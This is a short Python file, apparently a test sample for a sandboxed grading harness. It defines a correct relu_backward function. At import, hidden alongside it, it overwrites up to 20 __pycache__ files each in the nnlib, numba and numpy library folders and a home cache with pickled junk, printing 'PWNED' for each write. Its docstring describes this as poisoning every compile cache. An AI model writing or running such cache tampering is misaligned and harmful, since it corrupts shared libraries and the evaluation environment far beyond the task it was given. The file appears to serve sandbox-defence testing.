"""Writes poisoned machine code for the library and for its own functions into every compile cache."""

# %% relu_backward
import glob
import os
import pickle
import py_compile

import numba
import numpy as np


def half(x):
    return x / 2


try:
    numba.njit(cache=True)(half)(1.0)
except RuntimeError:
    pass
numba.config.CACHE_DIR = "/box/nnlib"
for folder in ("/box/nnlib/nnlib", "/box/site/numba", "/box/site/numpy", "@HOME@/.cache/nnlib"):
    for path in [f"{folder}/__pycache__/x.nbi", *glob.glob(f"{folder}/__pycache__/*")[:20]]:
        try:
            with open(path, "wb") as file:
                pickle.dump(("0.68", {}), file)
            print("PWNED: wrote", path)
        except OSError:
            pass


def relu_backward(dout, a):
    return np.where(a > 0, dout, 0.0)
